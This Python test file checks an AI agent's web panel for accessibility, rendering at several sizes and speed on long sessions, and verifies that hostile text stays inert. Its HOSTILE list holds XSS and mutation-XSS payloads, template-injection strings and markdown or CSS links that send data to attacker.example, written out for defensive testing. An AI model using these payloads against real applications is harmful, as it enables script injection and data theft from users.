#!/usr/bin/env python3
"""How the panel looks and what it does with hostile text: pictures at three widths in light and dark
(kept for a person to look at), a checker for accessibility, markup that must stay text, and a session
of 100,000 events. Skipped where there is no Chromium.

usage: looks_test.py GEMMULE SERVE_STAND [FOLDER_FOR_PICTURES]
"""
import json
import os
import subprocess
import sys
import tempfile
import unittest

from cdp import Browser, find_chromium
from raw import http
from serving import Serving

PICTURES = sys.argv.pop(3) if len(sys.argv) > 3 else tempfile.mkdtemp(prefix="gemmule-pictures-")
STAND = sys.argv.pop(2)
PROGRAM = sys.argv.pop(1)
STATE = 'document.querySelector("#connection").dataset.state'

# What a checker can see of WCAG 2.2: names, landmarks, headings, contrast, targets, focus.
LINT = r"""(() => {
  const bad = [];
  const shown = (e) => e.checkVisibility({checkOpacity: true, checkVisibilityCSS: true});
  const where = (e) => `${e.tagName.toLowerCase()}${e.id ? "#" + e.id : ""}.${e.className.baseVal ?? e.className} "${(e.textContent ?? "").trim().slice(0, 30)}"`;
  const ids = new Map();
  for (const e of document.querySelectorAll("[id]")) ids.set(e.id, (ids.get(e.id) ?? 0) + 1);
  for (const [id, n] of ids) if (n > 1) bad.push(`id ${id} is there ${n} times`);
  for (const e of document.querySelectorAll("[aria-labelledby], [aria-describedby], [aria-controls], [aria-activedescendant]"))
    for (const a of ["aria-labelledby", "aria-describedby", "aria-controls", "aria-activedescendant"])
      for (const id of (e.getAttribute(a) ?? "").split(" ").filter(Boolean))
        if (!document.getElementById(id)) bad.push(`${where(e)}: ${a} names ${id}, which is not there`);
  if (!document.documentElement.lang) bad.push("no lang");
  if (document.querySelectorAll("main").length !== 1) bad.push("not one main");
  let level = 0;
  for (const e of [...document.querySelectorAll("h1, h2, h3, h4")].filter(shown)) {
    const n = Number(e.tagName[1]);
    if (n > level + 1) bad.push(`${where(e)}: a heading of level ${n} after ${level}`);
    level = n;
  }
  for (const e of document.querySelectorAll("[tabindex]")) if (e.tabIndex > 0) bad.push(`${where(e)}: tabindex ${e.tabIndex}`);
  for (const e of document.querySelectorAll("button, a[href], input, select, textarea, summary, [role=tab], [role=treeitem], [role=option]")) {
    if (!shown(e)) continue;
    if (e.closest("[aria-hidden=true]")) bad.push(`${where(e)}: can be reached, but is hidden from screen readers`);
    const name = e.getAttribute("aria-label") || e.textContent.trim() || [...(e.labels ?? [])].map((l) => l.textContent).join("") || e.title;
    if (!name && e.getAttribute("role") !== "option") bad.push(`${where(e)}: no name`);
    const r = e.getBoundingClientRect();
    const inText = e.matches(".link, .tokens button, a.skip, input[type=checkbox]");
    if (!inText && r.width && (r.height < 23.5 || r.width < 23.5)) bad.push(`${where(e)}: ${r.width.toFixed(0)}×${r.height.toFixed(0)} px is a small target`);
  }
  const canvas = document.createElement("canvas").getContext("2d", {willReadFrequently: true});
  const rgba = (color) => { canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = color; canvas.fillRect(0, 0, 1, 1); return [...canvas.getImageData(0, 0, 1, 1).data]; };
  const light = ([r, g, b]) => { const f = (c) => { c /= 255; return c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4; }; return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b); };
  const ground = (e) => {
    for (; e; e = e.parentElement) {
      const c = rgba(getComputedStyle(e).backgroundColor);
      if (c[3] > 250) return c;
    }
    return [255, 255, 255, 255];
  };
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const seen = new Set();
  while (walk.nextNode()) {
    const e = walk.currentNode.parentElement;
    if (!walk.currentNode.textContent.trim() || seen.has(e) || !shown(e) || e.closest(".unseen, [disabled], [aria-hidden=true], .undone, noscript, option")) continue;
    seen.add(e);
    const style = getComputedStyle(e);
    const a = light(rgba(style.color)), b = light(ground(e));
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    const large = parseFloat(style.fontSize) >= 24 || (parseFloat(style.fontSize) >= 18.66 && style.fontWeight >= 700);
    if (ratio < (large ? 3 : 4.5)) bad.push(`${where(e)}: contrast ${ratio.toFixed(2)}`);
  }
  if (document.documentElement.scrollWidth > innerWidth) bad.push(`the page is ${document.documentElement.scrollWidth} px wide on ${innerWidth}`);
  return bad;
})()"""

HOSTILE = [
    '<img src=x onerror="window.pwned=1">', "<script>window.pwned=1</script>",
    '<svg onload="window.pwned=1"><a xlink:href="javascript:window.pwned=1">x</a></svg>',
    "[click](javascript:window.pwned=1)", "[data](data:text/html,<script>pwned=1</script>)",
    "![secret](https://attacker.example/?q=secret)", "![r][ref]\n\n[ref]: https://attacker.example/r",
    '"><style>*{background:url(https://attacker.example/c)}</style>',
    '<link rel=prefetch href="https://attacker.example/p">', "</textarea><iframe src=//attacker.example>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned=1&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">", "{{constructor.constructor('pwned=1')()}}",
    "\u202egnp.exe\u202c \u0000\u001b[2J\u200b", "`<b>`", "**<b>x</b>**", "|<i>a</i>|b|\n|--|--|\n|<img src=x>|2|",
]


def hostile_events(session):
    """One event of every type, each text of it a hostile one."""
    events = []

    def add(kind, **fields):
        events.append({"v": 1, "id": len(events) + 1, "ts": "2026-01-31T10:00:00.000Z",
                       "session": session, "turn": 1, "type": kind, **fields})
    add("session.started", cwd=HOSTILE[0], tools=HOSTILE, model={
        "name": HOSTILE[0], "backend": HOSTILE[1], "embedded": True, "context_length": 4096})
    add("turn.started", prefix={"prompt": 10, "kept": 0, "prefilled": 10, "diverged_at": None})
    n = 0
    for text in HOSTILE:
        for kind in ("message", "reasoning", "note"):
            n += 1
            item = {"id": f"item_{n}", "kind": kind, "status": "completed", "text": text}
            if kind == "message":
                item["role"] = "assistant"
                add("item.started", item=dict(item, status="in_progress", text=""))
                for letter in text:
                    add("item.updated", item={"id": item["id"], "kind": kind}, delta=letter)
            add("item.completed", item=item)
        n += 1
        call = {"id": f"item_{n}", "kind": "tool_call", "status": "failed", "call_id": text,
                "name": text, "args_text": json.dumps({text: text, "command": text}),
                "args": {text: text, "command": text}, "output": text, "facts": {"signal": text},
                "duration_ms": 1}
        add("item.started", item=dict(call, status="in_progress", output=""))
        add("item.updated", item={"id": call["id"], "kind": "tool_call"}, delta=text)
        add("item.completed", item=call)
        for name in ("edit_file", "write_file"):
            n += 1
            add("item.completed", item=dict(call, id=f"item_{n}", name=name, status="completed", args={
                "path": text, "old": text, "new": text, "content": text}))
        add("permission.asked", request=f"p{n}", call_id="c", tool=text, arguments=text, title=text,
            what=text, detail=text, scopes=["call"], hash="00")
        add("limit.reached", which=text, detail=text)
        add("loop.detected", evidence=text, action=text)
        add("turn.failed", code=text, message=text)
    add("run.completed", exit=1, code="error", reason=HOSTILE[0], message=HOSTILE[1],
        answer=HOSTILE[2], final_item=None, turns=1, calls=1, usage={}, time={})
    return events


class Looks(unittest.TestCase):
    maxDiff = None

    @classmethod
    def setUpClass(cls):
        os.makedirs(PICTURES, exist_ok=True)
        cls.server = Serving(PROGRAM, "--temperature", "0")
        with open(os.path.join(cls.server.workspace, "ledger.md"), "w") as file:
            file.write("# Ledger\n\n" + "".join(f"line {i}\n" for i in range(40)))
        with open(os.path.join(cls.server.workspace, "slow.sh"), "w") as file:
            file.write("for i in 1 2 3 4 5 6; do echo line $i; done; sleep 300\n")
        with cls.server.socket() as client:
            cls.done = client.start("How many lines are in ledger.md?")
            client.until_type(cls.done, "run.completed")
            client.command("send", session=cls.done, text="Replace line 7 with line seven in ledger.md.")
            client.until_type(cls.done, "run.completed", after=client.events[cls.done][-1]["id"])
            branch = client.command("fork", session=cls.done, turn=1)["session"]
            client.command("rename", session=branch, title="Try it another way")
            cls.running = client.start("Run the command sh slow.sh")
            cls.asking = client.start("Run the command wc -l ledger.md", mode="ask")
            client.until_type(cls.asking, "permission.asked")
            client.until_type(cls.running, "item.updated")
        cls.browser = Browser()
        cls.page = cls.browser.page()
        cls.page.open(cls.server.link)
        cls.page.wait(STATE + ' === "live"')

    @classmethod
    def tearDownClass(cls):
        cls.browser.close()
        code = cls.server.stop()
        assert code == 143, f"ended with {code}"

    def rest(self, answered=True):
        """Until nothing of the page has changed for a while: it is as a person sees it."""
        if answered:
            self.page.wait('!document.querySelector("[aria-busy=true]")')
        self.page.run("""new Promise((resolve) => {
            let timer = 0;
            const watch = new MutationObserver(() => { clearTimeout(timer); timer = setTimeout(done, 120); });
            const done = () => { watch.disconnect(); clearTimeout(timer); clearTimeout(most); requestAnimationFrame(() => resolve(1)); };
            const most = setTimeout(done, 3000);  // a clock in it may tick for ever
            timer = setTimeout(done, 120);
            watch.observe(document.body, {subtree: true, childList: true, attributes: true, characterData: true});
        })""", promise=True)

    def go(self, address, wanted):
        self.page.run(f'location.hash = "{address}"')
        self.page.wait(wanted)
        # A question's buttons wake after half a second.
        self.page.wait('!document.querySelector("#log [data-answer]:disabled")')
        self.rest()

    VIEWS = {
        "welcome": ("#/new", '!!document.querySelector(".welcome")'),
        "done": ("#/s/{done}", 'document.querySelectorAll("#log .ended").length === 2'),
        "running": ("#/s/{running}", 'document.querySelector("#log").innerText.includes("line 6")'),
        "asking": ("#/s/{asking}", '!!document.querySelector("#log [role=alertdialog]")'),
    }

    def test_every_view_at_every_size_is_drawn_without_a_finding(self):
        findings = {}
        for width, height in ((1440, 900), (768, 1024), (360, 740), (320, 568)):
            for dark in (False, True):
                self.page.resize(width, height, dark=dark, mobile=width < 720)
                for name, (address, wanted) in self.VIEWS.items():
                    self.go(address.format(**vars(Looks)), wanted)
                    label = f"{name}-{width}-{'dark' if dark else 'light'}"
                    self.page.picture(os.path.join(PICTURES, label + ".png"))
                    if found := self.page.run(LINT):
                        findings[label] = found
                    if width < 720 and name == "done":
                        for pane in ("sessions", "inspector", "run"):
                            self.page.click(f'#bottom [data-pane="{pane}"]')
                            self.rest()
                            label = f"{name}-{pane}-{width}-{'dark' if dark else 'light'}"
                            self.page.picture(os.path.join(PICTURES, label + ".png"))
                            if found := self.page.run(LINT):
                                findings[label] = found
        self.page.resize(1440, 900)
        self.assertEqual(findings, {})
        self.assertEqual(self.page.complaints, [])

    def test_every_tab_and_dialog_is_drawn_without_a_finding(self):
        findings = {}
        for dark in (False, True):
            self.page.resize(1440, 900, dark=dark)
            self.go(*[x.format(**vars(Looks)) for x in self.VIEWS["done"]])
            suffix = "dark" if dark else "light"
            for tab in ("Tree", "Trace", "Changes", "Tools", "Inside"):
                self.page.click(f"#tab-{tab}")
                self.rest()
                if tab == "Tools":
                    self.page.click(".tool summary")
                if tab == "Inside":
                    self.page.click('(document.querySelectorAll(".tokens button")[3])')
                    self.page.wait('document.querySelectorAll(".others button").length > 1')
                self.page.picture(os.path.join(PICTURES, f"tab-{tab}-{suffix}.png"))
                if found := self.page.run(LINT):
                    findings[f"{tab}-{suffix}"] = found
            for words in ("machine", "permissions", "settings", "keys", ""):
                self.page.key("k", 2)
                self.page.wait('document.activeElement.getAttribute("role") === "combobox"')
                if words:
                    self.page.type(words)
                    self.page.key("Enter")
                    self.page.wait('!!document.querySelector("dialog:not(.palette)")')
                    self.rest()
                self.page.picture(os.path.join(PICTURES, f"dialog-{words or 'palette'}-{suffix}.png"))
                if found := self.page.run(LINT):
                    findings[f"{words}-{suffix}"] = found
                self.page.key("Escape")
                self.page.wait('!document.querySelector("dialog")')
        self.page.resize(1440, 900)
        self.assertEqual(findings, {})
        self.assertEqual(self.page.complaints, [])

    def test_w23_w24_hostile_text_stays_text_and_loads_nothing(self):
        page = self.page
        self.go("#/new", '!!document.querySelector(".welcome")')
        self.page.requests.clear()
        title = HOSTILE[0]
        page.run(f"""gemmule.store.take({{type: "session", session: {{id: "evil", title: {json.dumps(title)},
            state: "failed", doing: {json.dumps(HOSTILE[1])}, turns: 1, tokens: 1, workspace: {json.dumps(title)},
            mode: "ask", created: 1, updated: Date.now(), exit: 1, last_id: 1, queue: {json.dumps(HOSTILE)}, parent: null}}}})""")
        events = hostile_events("evil")
        page.run('gemmule.link.ask = () => new Promise(() => {}); location.hash = "#/s/evil"')
        page.run(f"gemmule.store.take({json.dumps({'type': 'events', 'session': 'evil', 'from': 1, 'to': len(events), 'head': len(events), 'events': events})})")
        page.wait('document.querySelectorAll("#log > *").length > 50')
        page.run('document.querySelectorAll("#log details").forEach((d) => { d.open = true; })')
        page.run('document.querySelectorAll("#log .head").forEach((b) => b.click())')
        for tab in ("Trace", "Changes"):
            page.click(f"#tab-{tab}")
            self.rest(answered=False)  # nobody answers this page any more
        self.assertEqual(page.run('[...document.querySelectorAll("img, script:not([src]), iframe, svg a, object, embed, math, style, link[rel=prefetch], #log b, #log i, #log a[href]")]'
                                  '.filter((e) => !e.closest("header")).map((e) => e.outerHTML.slice(0, 80))'), [])
        self.assertIsNone(page.run("window.pwned"))
        self.assertEqual([u for u in page.requests if "127.0.0.1" not in u], [])
        text = page.run('document.querySelector("#log").textContent')
        for wanted in ("<script>window.pwned=1</script>", "image not loaded", "attacker.example", "\\u{202e}"):
            self.assertIn(wanted, text)
        self.assertNotIn("\u202e", text)
        self.assertEqual(page.complaints, [])
        page.picture(os.path.join(PICTURES, "hostile.png"))
        page.call("Page.reload")
        page.wait(STATE + ' === "live"')

    def test_w25_a_link_is_opened_only_after_its_target_was_shown(self):
        page = self.page
        self.go("#/new", '!!document.querySelector(".welcome")')
        page.run("""import("/markdown.js").then(({markdown}) => document.querySelector("#log").replaceChildren(
            ...markdown("see [our site](http://attacker.example/x?y) now")))""", promise=True)
        self.rest()
        page.requests.clear()
        page.click("#log .link")
        page.wait('document.querySelector("dialog")?.innerText.includes("http://attacker.example/x?y")')
        self.assertEqual(page.run('document.querySelector("dialog a").rel'), "noopener noreferrer")
        self.assertEqual(page.requests, [])
        page.key("Escape")
        page.wait('!document.querySelector("dialog")')

    def test_the_page_is_small_and_there_at_once(self):
        total = 0
        for name in os.listdir(os.path.join(os.path.dirname(__file__), "../../agent/serve/www")):
            path = "/" if name == "index.html" else "/" + name
            answer = http(self.server.port, "GET", path)
            self.assertEqual(answer.status, 200, path)
            total += len(answer.body)
        self.assertLess(total, 250_000)
        page = self.browser.page()
        page.open(f"http://127.0.0.1:{self.server.port}/")
        page.wait('performance.getEntriesByName("first-contentful-paint").length > 0')
        paint = page.run('performance.getEntriesByName("first-contentful-paint")[0].startTime')
        print(f"first paint {paint:.0f} ms, assets {total} bytes")
        self.assertLess(paint, 3000)  # 300 ms on a quiet machine; this one may be loaded
        page.close()


class LongSession(unittest.TestCase):
    def test_a_session_of_a_hundred_thousand_events_opens_at_once(self):
        stand = subprocess.Popen([STAND, "0"], env=dict(os.environ, STAND_GREETS="1"), stdout=subprocess.PIPE,
                                 stderr=subprocess.DEVNULL, text=True)
        port, _, code = stand.stdout.readline().split()
        try:
            with Browser() as browser:
                page = browser.page()
                page.open(f"http://127.0.0.1:{port}/#code={code}")
                page.wait(STATE + ' === "live"')
                page.run('gemmule.link.ask("fill", {events: 100000})', promise=True)
                page.run('performance.mark("open"); location.hash = "#/s/feed"')
                page.wait('gemmule.store.open("feed").caughtUp && gemmule.store.open("feed").lastId >= 100000'
                          ' && document.querySelectorAll("#log > *").length > 50', "the long session")
                took = page.run('performance.measure("x", "open").duration')
                nodes = page.run('document.querySelectorAll("*").length')
                print(f"100,000 events opened in {took:.0f} ms, {nodes} nodes")
                self.assertLess(nodes, 5000)
                self.assertLess(took, 10_000)  # 1 s on a quiet machine; this one may be loaded
        finally:
            stand.terminate()
            stand.wait()


if __name__ == "__main__":
    if not find_chromium():
        print("skipped: no Chromium on this machine")
        sys.exit(77)
    unittest.main(verbosity=0)
